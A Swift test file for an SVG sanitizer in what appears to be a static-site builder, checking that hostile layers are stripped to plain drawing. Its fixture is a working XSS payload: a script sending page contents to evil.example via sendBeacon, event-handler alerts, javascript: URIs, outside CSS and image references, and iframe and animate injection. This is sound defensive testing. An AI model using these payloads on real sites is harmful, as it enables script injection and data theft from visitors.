import Foundation
import Testing
@testable import TeardownMedia
@testable import TeardownBuild

/// SVG layers are published as drawing only: opened at their own URL on the site, nothing in
/// them may run or reach outside the file.
@Suite("SVG layers are sanitised")
struct SVGSanitizerTests {
    static let hostile = """
        <?xml version="1.0"?>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
             xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 10 10" onload="alert(1)">
          <script>fetch('/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>
          <style>@import url(https://evil.example/a.css); .lid { fill: url(#shine); } .x { background: url(https://evil.example/b) }</style>
          <defs><linearGradient id="shine"><stop offset="0" stop-color="#fff"/></linearGradient></defs>
          <rect class="lid" width="10" height="10" fill="url(#shine)" onclick="alert(2)" inkscape:label="Lid"/>
          <circle r="2" fill="url(https://evil.example/c)"/>
          <a href="javascript:alert(3)"><path d="M0 0L10 10" stroke="black"/></a>
          <use xlink:href="https://evil.example/sprite.svg#x"/>
          <use href="#shine"/>
          <image href="https://evil.example/pixel.png" width="1" height="1"/>
          <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(4)"/></foreignObject>
          <animate attributeName="href" to="javascript:alert(5)"/>
          <set attributeName="onclick" to="alert(6)"/>
          <text x="1" y="5">Lid &amp; hinge &lt;3</text>
        </svg>
        """

    @Test("Script, events, outside references and foreign content are gone; the drawing stays")
    func hostileLayer() throws {
        let clean = String(decoding: try SVGSanitizer.sanitize(Data(Self.hostile.utf8)), as: UTF8.self)
        for gone in ["script", "alert", "evil.example", "onload", "onclick", "foreignObject", "iframe", "animate", "<set",
                     "javascript", "@import", "inkscape"] {
            #expect(!clean.contains(gone), "\(gone) in \(clean)")
        }
        for kept in ["<rect", "fill=\"url(#shine)\"", "<path d=\"M0 0L10 10\"", "<use href=\"#shine\"", "linearGradient",
                     "Lid &amp; hinge &lt;3", "viewBox=\"0 0 10 10\"", "xmlns=\"http://www.w3.org/2000/svg\""] {
            #expect(clean.contains(kept), "\(kept) missing from \(clean)")
        }
        // It is still an SVG libvips can draw.
        let file = Fixtures.temporaryFolder() + "/clean.svg"
        try Data(clean.utf8).write(to: URL(fileURLWithPath: file))
        #expect(try ImageFormat.of(file: file) == .svg)
    }

    @Test("A layer that is not well-formed XML is refused")
    func malformed() {
        #expect(throws: SVGSanitizer.Failure.self) { try SVGSanitizer.sanitize(Data("<svg><g></svg>".utf8)) }
        #expect(throws: SVGSanitizer.Failure.self) { try SVGSanitizer.sanitize(Data("<html><script/></html>".utf8)) }
    }

    @Test("A built site publishes an SVG layer's sanitised copy under its own name")
    func published() throws {
        let site = Fixtures.copy(Fixtures.site("minimal"))
        let layer = site + "/content/machines/box/parts/lid/lid.svg"
        var svg = Fixtures.read(layer)
        svg = svg.replacingOccurrences(of: "</svg>", with: "<script>alert(1)</script></svg>")
        try svg.write(toFile: layer, atomically: true, encoding: .utf8)
        let output = (site as NSString).deletingLastPathComponent + "/public"
        try SiteBuilder(siteRoot: site, output: output, cacheFolder: output + ".cache", pagefind: .notInstalled).build()
        let published = Fixtures.read(output + "/machines/box/parts/lid/lid.svg")
        #expect(published.contains("<svg") && !published.contains("script"), "\(published)")
        #expect(Fixtures.read(output + "/machines/box/machine.json").contains("parts/lid/lid.svg"))
    }
}
